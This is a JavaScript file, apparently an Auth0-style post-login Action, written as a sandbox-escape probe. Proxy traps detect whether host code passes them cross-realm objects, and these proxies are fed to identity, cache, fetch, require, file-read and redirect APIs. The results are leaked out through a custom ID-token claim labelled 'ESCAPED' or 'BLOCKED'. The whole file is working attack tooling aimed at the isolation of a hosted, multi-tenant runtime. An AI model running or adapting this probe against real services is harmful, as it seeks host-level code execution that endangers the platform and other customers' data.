// getters, toJSON and toString that are Proxies, whose apply trap gets an array of the caller
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const trap = (label) => new Proxy(function () {}, { apply(target, self, args) { if (args.constructor !== Array || args.constructor.constructor !== Function) found.push(label); return label === 'toPrimitive' ? 'x' : { a: 1 }; } });
  const value = Object.defineProperty({ toJSON: undefined }, 'x', { get: trap('getter'), enumerable: true });
  const traps = (label) => new Proxy({ a: 1 }, { get(t, k, r) { return t[k]; }, ownKeys: trap(label + ' ownKeys'), has: trap(label + ' has'), getOwnPropertyDescriptor: (t, k) => Reflect.getOwnPropertyDescriptor(t, k), defineProperty(t, k, d) { if (d.constructor !== Object) found.push(label + ' descriptor'); return Reflect.defineProperty(t, k, d); } });
  for (const v of [value, { toJSON: trap('toJSON') }, { toString: trap('toString'), [Symbol.toPrimitive]: trap('toPrimitive') }, [value], traps('claim')]) {
    await attempt('', () => void api.idToken.setCustomClaim('v', v));
    await attempt('', () => void api.idToken.setCustomClaim(v, 1));
    await attempt('', () => void api.user.setAppMetadata(v, v));
    await attempt('', () => void api.redirect.sendUserTo('https://x.example/', v));
    await attempt('', () => void api.redirect.encodeToken({ secret: v, payload: v }));
    await attempt('', () => void api.cache.set(v, v, v));
    await attempt('', () => void console.log(v, '%s %d %o', v, v));
    await attempt('', () => fetch(v));
    await attempt('', () => fetch('https://a.example/', { method: v, headers: v, body: v }));
    await attempt('', () => require(v));
    await attempt('', () => require('fs').readFileSync(v, v));
    await attempt('', () => process.emitWarning(v));
  }
  event.transaction = traps('event'); event.user = traps('user');
  await attempt('', () => void api.transaction?.setMetadata('a', 'b'));
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
